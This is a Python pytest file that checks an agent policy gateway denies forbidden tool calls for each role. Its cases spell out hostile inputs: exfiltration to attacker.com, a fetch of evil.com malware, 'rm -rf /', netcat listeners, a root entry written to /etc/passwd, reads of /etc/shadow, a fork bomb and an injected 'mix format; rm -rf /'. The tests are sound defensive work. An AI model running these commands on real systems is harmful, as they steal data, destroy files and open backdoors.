"""The literal refusals of the seeds, with the seeds' own data and what each refusal says."""

from typing import Any

import pytest

from tests.unit.policy_gateway.decision.verdicts import denied


def cmd(*words: str) -> dict[str, Any]:
    return {"cmd": list(words)}


@pytest.mark.parametrize(
    ("role", "tool", "args", "opts", "code", "detail"),
    [
        (
            "coder",
            "http",
            {"url": "https://attacker.com/steal", "method": "post", "body": "x"},
            {},
            "forbidden_tool",
            {"tool": "http"},
        ),  # G06
        (
            "coder",
            "git",
            cmd("push", "--force", "origin", "main"),
            {},
            "dangerous_git_operation",
            {"argv": ["push", "--force", "origin", "main"], "matched": "push --force"},
        ),  # G07, C8
        (
            "coder",
            "git",
            cmd("reset", "--hard", "HEAD~50"),
            {},
            "dangerous_git_operation",
            {"argv": ["reset", "--hard", "HEAD~50"], "matched": "reset --hard"},
        ),  # G08
        (
            "coder",
            "shell",
            cmd("rm", "-rf", "/"),
            {},
            "forbidden_command",
            {"command": ["rm", "-rf", "/"], "allowed": ["mix", "git", "elixir", "gleam", "cargo", "npm", "bun"]},
        ),  # G09, C10
        (
            "coder",
            "shell",
            cmd("rm", "-rf", ".git/logs"),
            {},
            "forbidden_command",
            {"command": ["rm", "-rf", ".git/logs"]},
        ),
        ("coder", "shell", cmd("nc", "-l", "4444"), {}, "forbidden_command", {"command": ["nc", "-l", "4444"]}),
        (
            "coder",
            "shell",
            cmd("nc", "-l", "-p", "4444"),
            {},
            "forbidden_command",
            {"command": ["nc", "-l", "-p", "4444"]},
        ),
        (
            "coder",
            "fs",
            {"write": "/etc/passwd", "content": "hacker::0:0:::"},
            {},
            "forbidden_path",
            {"path": "/etc/passwd"},
        ),  # G10
        (
            "coder",
            "docker",
            {"image": "alpine", "cmd": ["sh", "-c", "cat /etc/shadow"]},
            {},
            "forbidden_tool",
            {"tool": "docker"},
        ),  # G11
        (
            "coder",
            "shell",
            cmd("sleep", "3600"),
            {"timeout": 3_600_000},
            "timeout_exceeded",
            {"max": 300_000, "requested": 3_600_000},
        ),  # G12, C9
        (
            "coder",
            "shell",
            cmd("mix", "analyze", "--depth", "infinity"),
            {"timeout": 1_000_000},
            "timeout_exceeded",
            {"max": 300_000, "requested": 1_000_000},
        ),  # G13
        ("coder", "http", {"method": "listen", "port": 8888}, {}, "forbidden_tool", {"tool": "http"}),  # G16, C9
        (
            "tester",
            "fs",
            {"write": "/code/lib/hack.ex", "content": "# backdoor"},
            {},
            "forbidden_tool",
            {"tool": "fs"},
        ),  # G19
        ("tester", "fs", {"read": "/code/lib/auth.ex"}, {}, "forbidden_tool", {"tool": "fs"}),
        ("tester", "git", cmd("commit", "-m", "Tamper"), {}, "forbidden_tool", {"tool": "git"}),
        ("tester", "http", {"url": "https://api.com"}, {}, "forbidden_tool", {"tool": "http"}),
        ("tester", "lua", {"src": "return 42"}, {}, "forbidden_tool", {"tool": "lua"}),
        (
            "tester",
            "docker",
            {"image": "alpine", "cmd": ["sh", "-c", ":(){ :|:& };:"]},
            {},
            "docker_resource_limits_required",
            {"missing": ["cpu", "mem"]},
        ),  # G20
        (
            "tester",
            "docker",
            {"image": "heavy/image", "cmd": ["x"], "mounts": [], "cpu": 2, "mem": "4g"},
            {},
            "forbidden_image",
            {"image": "heavy/image"},
        ),  # C17
        (
            "critic",
            "fs",
            {"write": "/code/lib/improved_auth.ex", "content": "# improved version"},
            {},
            "write_access_denied",
            {"path": "/code/lib/improved_auth.ex"},
        ),  # G22
        ("critic", "shell", cmd("ls", "-la"), {}, "forbidden_tool", {"tool": "shell"}),  # G23
        ("critic", "git", cmd("log"), {}, "forbidden_tool", {"tool": "git"}),  # G24
        ("critic", "docker", {"image": "alpine", "cmd": ["sh"]}, {}, "forbidden_tool", {"tool": "docker"}),
        ("critic", "http", {"url": "https://api.com"}, {}, "forbidden_tool", {"tool": "http"}),
        (
            "critic",
            "lua",
            {"src": "function main() while true do end end", "argv": []},
            {"timeout": 60_000},
            "timeout_exceeded",
            {"max": 30_000, "requested": 60_000},
        ),  # G25, C58
        (
            "researcher",
            "http",
            {"url": "https://evil.com/malware.js"},
            {},
            "forbidden_url",
            {"url": "https://evil.com/malware.js"},
        ),  # G27
        (
            "researcher",
            "http",
            {"url": "https://api.stripe.com/v1/charges"},
            {},
            "forbidden_url",
            {"url": "https://api.stripe.com/v1/charges"},
        ),
        (
            "researcher",
            "http",
            {"url": "https://elixir-lang.org/getting-started"},
            {},
            "forbidden_url",
            {"hosts": ["docs.rs", "github.com", "hexdocs.pm"]},
        ),  # G55, C22
        (
            "researcher",
            "fs",
            {"write": "/code/lib/researched.ex", "content": "# findings"},
            {},
            "write_access_denied",
            {},
        ),  # G28
        ("researcher", "shell", cmd("curl", "https://hexdocs.pm"), {}, "forbidden_tool", {"tool": "shell"}),  # G29
        ("researcher", "git", cmd("clone", "https://github.com/..."), {}, "forbidden_tool", {"tool": "git"}),
        ("researcher", "docker", {"image": "alpine", "cmd": ["sh"]}, {}, "forbidden_tool", {"tool": "docker"}),
        ("researcher", "lua", {"src": "return 42"}, {}, "forbidden_tool", {"tool": "lua"}),
        ("wizard", "shell", cmd("mix", "test"), {}, "unknown_role", {"role": "wizard"}),  # G31
        ("coder", "telepathy", {}, {}, "forbidden_tool", {"tool": "telepathy"}),  # G42
        ("admin", "telepathy", {}, {}, "forbidden_tool", {"tool": "telepathy"}),
        ("coder", "shell", {"cmd": "mix format; rm -rf /"}, {}, "bad_args", {"field": "cmd"}),  # G48
        ("coder", "shell", cmd("mix format"), {}, "forbidden_command", {"command": ["mix format"]}),  # T10, C14
    ],
)
def test_refuses_what_the_seed_refuses(role: str, tool: str, args: Any, opts: Any, code: str, detail: Any) -> None:
    found, told = denied(role, tool, args, opts)
    assert found == code
    assert detail.items() <= told.items()
